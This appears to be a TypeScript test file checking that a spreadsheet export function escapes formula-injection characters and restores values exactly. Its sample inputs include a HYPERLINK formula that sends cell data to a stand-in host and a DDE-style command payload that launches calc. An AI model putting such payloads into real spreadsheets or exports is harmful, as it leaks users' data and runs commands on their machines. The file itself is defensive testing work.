import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isPlainNumber, neutralizeCell, restoreCell } from '../../../src/shared/export/formula';

describe('spreadsheet formula neutraliser', () => {
  it('defuses a malicious lead name and every trigger character', () => {
    expect(neutralizeCell('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe(
      '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    );
    expect(neutralizeCell('+cmd|" /C calc"!A0')).toBe('\'+cmd|" /C calc"!A0');
    expect(neutralizeCell('-2+3')).toBe("'-2+3");
    expect(neutralizeCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(neutralizeCell('\t=1')).toBe("'\t=1");
    expect(neutralizeCell('\r=1')).toBe("'\r=1");
  });

  it('leaves plain numbers and ordinary text alone', () => {
    for (const v of ['-5', '+5', '-0.25', '1e+21', '-1.5E-7', '42', '', 'Acme', "O'Brien", 'a=b'])
      expect(neutralizeCell(v)).toBe(v);
    expect(isPlainNumber('-5')).toBe(true);
    expect(isPlainNumber('-5 USD')).toBe(false);
  });

  it('keeps values that already start with quotes distinguishable', () => {
    expect(neutralizeCell("'=x")).toBe("''=x");
    expect(restoreCell("''=x")).toBe("'=x");
    expect(restoreCell("'plain")).toBe("'plain");
  });

  it('round-trips any string exactly', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '1', '.', 'e', 'a', ' ') }),
        (v) => {
          expect(restoreCell(neutralizeCell(v))).toBe(v);
          const out = neutralizeCell(v);
          // What a spreadsheet sees never starts a formula unless it is a plain number.
          expect(/^[=+\-@\t\r]/.test(out) && !isPlainNumber(out)).toBe(false);
        },
      ),
      { numRuns: 2000 },
    );
  });
});
